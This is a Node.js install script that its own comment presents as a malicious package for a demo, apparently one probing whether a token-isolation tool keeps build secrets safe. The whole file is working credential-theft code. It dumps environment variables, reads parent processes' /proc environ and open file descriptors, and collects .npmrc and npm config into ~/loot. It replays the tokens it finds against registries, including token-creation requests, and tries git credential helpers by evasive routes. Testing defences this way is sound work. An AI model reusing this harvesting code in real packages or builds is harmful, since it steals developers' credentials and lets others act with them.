// The install script of a malicious package, for demo.sh: reads where builds keep tokens, tries to use what it finds, and tries
// every door by which others get tokens. What it read is in ~/loot, what came of it in ~/report.
const { execFileSync, spawn } = require("node:child_process");
const { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } = require("node:fs");
const http = require("node:http");
const https = require("node:https");
const { homedir } = require("node:os");
const path = require("node:path");

const LARGEST = 1e6;
const report = path.join(homedir(), "report");

/** The text of a file; nothing of what can't be read, or would never end. */
function read(path) {
  try {
    const status = statSync(path);
    return status.isFile() && status.size < LARGEST ? readFileSync(path, "latin1") : "";
  } catch {
    return "";
  }
}

/** The processes that led to this one: a shell, npm, toolkey. */
function parents() {
  const found = [];
  for (let pid = process.ppid; pid > 1 && found.length < 20; pid = Number(/^PPid:\s+(\d+)/m.exec(read(`/proc/${pid}/status`))?.[1] ?? 0)) found.push(pid);
  return found;
}

function descriptors(pid) {
  try {
    return readdirSync(`/proc/${pid}/fd`).map((descriptor) => `/proc/${pid}/fd/${descriptor}`);
  } catch {
    return [];
  }
}

function npmConfiguration() {
  try {
    return execFileSync("npm", ["config", "list", "--long"], { encoding: "latin1", stdio: ["ignore", "pipe", "ignore"] });
  } catch {
    return "";
  }
}

function ask(method, url, token, ca) {
  return new Promise((resolve) => {
    const { request } = url.startsWith("https:") ? https : http;
    const asked = request(url, { method, ca, headers: { authorization: `Bearer ${token}` } }, (answer) => {
      answer.resume().once("end", () => resolve(`${answer.statusCode} ${answer.statusMessage}`));
    });
    asked.on("error", (error) => resolve(error.message)).end();
  });
}

/** What a program prints, in a session of its own, where nobody can be asked. */
function printed(command, args, input = "", options = {}) {
  return new Promise((resolve) => {
    const child = spawn(command, args, { detached: true, stdio: ["pipe", "pipe", "pipe"], ...options });
    let text = "";
    child.on("error", (error) => (text += error.message));
    child.stdin.on("error", () => undefined).end(input);
    for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk) => (text += chunk));
    child.once("close", () => resolve(text));
  });
}

/** The ways in which git, npm and a person get tokens, each with what comes of it. */
async function tryDoors(registry) {
  const tokens = JSON.parse((await printed("toolkey", ["list", "--json"])) || "[]");
  const { target, username, id } = tokens.find(({ tool }) => tool === "git");
  const request = `protocol=https\nhost=${new URL(target).host}\nusername=${username}\n\n`;
  const helper = "git-credential-toolkey";
  const bare = { env: { HOME: homedir(), PATH: process.env.PATH } };
  const copied = 'cat "$npm_config_userconfig"';
  return [
    ["git credential fill", await printed("git", ["credential", "fill"], request)],
    ["git credential fill, with a clean environment", await printed("git", ["credential", "fill"], request, bare)],
    ["git credential fill, as an orphan", await printed("sh", ["-c", "(cat | git credential fill &)"], request)],
    ["git-credential-toolkey get", await printed(helper, ["get"], request)],
    ["git ls-remote", await printed("git", ["ls-remote", `${target.replace("//", `//${username}@`)}/alices-app.git`])],
    ["toolkey run --direct", await printed("toolkey", ["run", "--direct", "--tool", "npm", "--", "sh", "-c", copied])],
    ["toolkey-authorization npm", await printed("toolkey-authorization", ["npm", registry])],
    ["toolkey show", await printed("toolkey", ["show", id, "--json"])],
  ];
}

/** What was given: a password, a header, a line of an .npmrc that is no phantom, references, a secret. */
const GIVEN = /^password=|^(?:Bearer|Basic) |_authToken=(?!tkphantom_)|refs\/heads|"secret"/m;

async function main() {
  const pids = parents();
  const npmrc = read(path.join(homedir(), ".npmrc"));
  const loot = [
    JSON.stringify(process.env, undefined, 1),
    // Files of /proc have no length.
    ...pids.map((pid) => read(`/proc/${pid}/environ`).replaceAll("\0", "\n")),
    ...pids.flatMap(descriptors).map(read),
    npmrc,
    read(process.env.npm_config_userconfig ?? ""),
    npmConfiguration(),
  ].join("\n");
  writeFileSync(path.join(homedir(), "loot"), loot);
  const tokens = [...new Set([...loot.matchAll(/_authToken\s*=\s*"?([^\s"]+)|(tkphantom_[\w-]+)/g)].map(([, token, phantom]) => token ?? phantom))].filter((token) => !token.startsWith("("));
  const gateway = /http:\/\/127\.0\.0\.1:\d+/.exec(loot)?.[0];
  const registry = /^registry=(https:.*?)\/?$/m.exec(npmrc)?.[1];
  const ca = read(/^cafile=(.*)$/m.exec(npmrc)?.[1] ?? "");
  writeFileSync(report, tokens.length === 0 ? "found nothing\n" : "");
  for (const token of tokens) {
    appendFileSync(report, `found ${token.slice(0, 16)}...\n`);
    for (const origin of [gateway, registry]) {
      for (const [method, path] of [["GET", "/handy-colors"], ["GET", "/-/npm/v1/tokens"], ["POST", "/-/npm/v1/tokens"]]) {
        appendFileSync(report, `use   ${method} ${origin}${path}: ${await ask(method, `${origin}${path}`, token, ca)}\n`);
      }
    }
  }
  for (const [door, answer] of await tryDoors(registry)) {
    appendFileSync(path.join(homedir(), "loot"), `${door}\n${answer}\n`);
    appendFileSync(report, `door  ${door}: ${GIVEN.test(answer) ? answer : "nothing"}\n`);
  }
}

void main();
